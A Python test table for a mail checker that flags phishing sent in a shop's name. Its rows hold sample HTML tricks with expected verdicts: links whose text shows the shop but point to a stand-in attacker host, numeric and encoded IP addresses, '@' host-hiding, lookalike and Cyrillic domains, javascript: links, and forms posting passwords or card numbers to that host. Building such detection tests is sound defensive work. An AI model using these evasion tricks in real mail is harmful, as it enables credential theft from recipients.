"""Which tricks are played with links? Each in a mail in the shop's name; some in mail that only the ledger knows."""

from dataclasses import replace
from typing import Any

from tests.mail.table.making import EVIL, Letter, Mail, Row, arrived, row, sent, strange
from tests.mail.table.zone import BRAND, SHOP

NAMED = Letter(sender=f"Example Shop <x@{EVIL}>", subject="Your order", text="Please see the web version.\n")
NAMED_JA = Letter(sender=f"例のお店 <x@{EVIL}>", subject="ご注文について", text="HTMLをご覧ください。\n")


def page(html: str, letter: Letter = NAMED) -> Mail:
    return strange(replace(letter, html=f"<html><body>{html}</body></html>"))


def link(name: str, html: str, because: str, verdict: str = "forged") -> Row:
    return row(name, lambda: page(html), verdict, because)


def link_ja(name: str, html: str, because: str, verdict: str = "forged") -> Row:
    return row(name, lambda: page(html, NAMED_JA), verdict, because, "ja")


def vouched(name: str, because: str, html: str = "", **how: Any) -> Row:
    """The brand's mail, unsigned (it publishes no policy), whose Message-ID, recipient and time are in the ledger."""
    letter = Letter(sender=f"Books <order@{BRAND}>", html=html, id=f"<b-1@{BRAND}>", **how)
    return row(name, lambda: Mail(arrived(letter.raw(), bounces=f"b@{BRAND}"), ledger=(sent(f"b-1@{BRAND}"),)),
               "unknown or forged or lookalike", because)  # fmt: skip


TO_EVIL = f'<a href="https://login.{EVIL}/">'
DIFFERS = "link.text_differs"
SOME = "name.claims_shop or asks.in_shops_name"
ROWS = (
    link("the text is the shop's address, the target is not", f"{TO_EVIL}https://{SHOP}/login</a>", DIFFERS),
    link_ja("the text is the shop's address, the target is not, in Japanese",
        f"{TO_EVIL}https://{SHOP}/login</a>からログイン", DIFFERS),
    link("the text is the shop's host without a scheme", f"{TO_EVIL}{SHOP}/account</a>", DIFFERS),
    link("the text is split by tags", f"{TO_EVIL}exa<b>mple-</b>shop<span>.jp</span></a>", DIFFERS),
    link("the text has zero-width characters", f"{TO_EVIL}example&#8203;-shop.jp</a>", DIFFERS),
    link("the text is in full width", f"{TO_EVIL}ｅｘａｍｐｌｅ－ｓｈｏｐ．ｊｐ</a>", DIFFERS),
    link("text and target in entities", f'<a href="&#104;ttps&#58;//login&#46;{EVIL}">https&#58;//{SHOP}/</a>',
        DIFFERS),
    link("a line break inside the target", f'<a href="ht\ntps://log\tin.{EVIL}/">https://{SHOP}/</a>', DIFFERS),
    link("backslashes in the target", f'<a href="https:\\\\login.{EVIL}\\">https://{SHOP}/</a>', DIFFERS),
    link("no scheme in the target", f'<a href="//login.{EVIL}/">https://{SHOP}/</a>', DIFFERS),
    link("spaces before the target", f'<a href="   https://login.{EVIL}/">https://{SHOP}/</a>', DIFFERS),
    link("href written twice", f'<a href="https://login.{EVIL}/" href="https://{SHOP}/">https://{SHOP}/</a>',
        DIFFERS),
    link("an unclosed tag", f'<a href="https://login.{EVIL}/">https://{SHOP}/login', DIFFERS),
    link("a link in an image map", f'<map><area href="https://{SHOP}@{EVIL}/" alt="{SHOP}"></map>',
        "link.hides_host"),
    link("an address of four numbers", '<a href="http://198.51.100.66/login">Log in</a>', "link.number_host"),
    link("an address as one number", '<a href="http://3325256770/login">Log in</a>', "link.number_host"),
    link("an address in hexadecimal", '<a href="http://0xC6336442/login">Log in</a>', "link.number_host"),
    link("an address in octal", '<a href="http://0306.063.0144.0102/login">Log in</a>', "link.number_host"),
    link("an address of mixed numbers", '<a href="http://0xc6.51.25666/">Log in</a>', "link.number_host"),
    link("an IPv6 address", '<a href="http://[2001:db8::66]/login">Log in</a>', "link.number_host"),
    link_ja("an address of four numbers, in Japanese", '<a href="http://198.51.100.66/">ログイン</a>',
        "link.number_host"),
    link("the shop before an at sign", f'<a href="https://{SHOP}@{EVIL}/">Log in</a>', "link.hides_host"),
    link("the shop and a password before an at sign", f'<a href="https://{SHOP}:443@{EVIL}/">Log in</a>',
         "link.hides_host"),
    link("the shop and a coded slash before an at sign", f'<a href="https://{SHOP}%2Flogin@{EVIL}/">Log in</a>',
         "link.hides_host"),
    link("a shortener", '<a href="https://bit.ly/3xY">Log in</a>', f"{SOME} or link.redirector", "forged or unknown"),
    link("an open redirect of a large company",
         f'<a href="https://www.google.com/url?q=https://login.{EVIL}/">Log in</a>', f"{SOME} or link.redirector",
         "forged or unknown"),
    link("a form in the mail", f'<form action="https://{EVIL}/take">Password <input name="p" type="password">'
         "<button>Sign in</button></form>", "form.elsewhere or asks.in_shops_name"),
    link_ja("a form in the mail, in Japanese", f'<form action="https://{EVIL}/take">暗証番号 <input name="p">'
            "<button>送信</button></form>", "form.elsewhere or asks.in_shops_name"),
    link("a button that sends elsewhere than its form", f'<form action="https://{SHOP}/"><input name="p">'
         f'<button formaction="https://{EVIL}/take">Sign in</button></form>', "form.elsewhere or asks.in_shops_name"),
    link("a page inside the address", '<a href="data:text/html;base64,PGZvcm0+">Log in</a>', "link.runs"),
    link("a program inside the address", '<a href="JaVaScRiPt:alert(1)">Log in</a>', "link.runs"),
    link("a program with a tab in its scheme", '<a href="java\tscript:alert(1)">Log in</a>', "link.runs"),
    link("a base that turns every link", f'<base href="https://login.{EVIL}/"><a href="/">https://{SHOP}/</a>',
        DIFFERS),
    link("a page that moves on by itself", f'<meta http-equiv="refresh" content="0;url=https://{SHOP}@{EVIL}/">',
         "link.hides_host"),
    link("a look-alike target under the shop's text", f'<a href="https://exarnple-shop.jp/">https://{SHOP}/</a>',
         "link.lookalike", "lookalike"),
    link("a Cyrillic target", '<a href="https://ex\u0430mple-shop.jp/">Log in</a>', "link.lookalike", "lookalike"),
    link("the link in a comment for one mail program",
         f'<!--[if mso]><a href="https://exarnple-shop.jp/">{SHOP}</a><![endif]--> Hello',
        f"{SOME} or link.lookalike",
         "lookalike or forged"),
    vouched("the ledger knows it, a link says one thing and leads to another", DIFFERS,
            f"{TO_EVIL}https://{BRAND}/</a>"),
    vouched("the ledger knows it, a link to a look-alike", "link.lookalike",
        '<a href="https://example-b00ks.jp/">Order</a>'),
    vouched("the ledger knows it, a link to a number", "link.number_host",
        '<a href="http://198.51.100.66/">Order</a>'),
    vouched("the ledger knows it, a form that sends elsewhere", "form.elsewhere or asks.in_shops_name",
            f'<form action="https://{EVIL}/"><input name="card"></form>'),
    vouched("the ledger knows it, the answer goes elsewhere", "reply_to.elsewhere",
            fields=(("Reply-To", f"books@{EVIL}"),)),
)  # fmt: skip
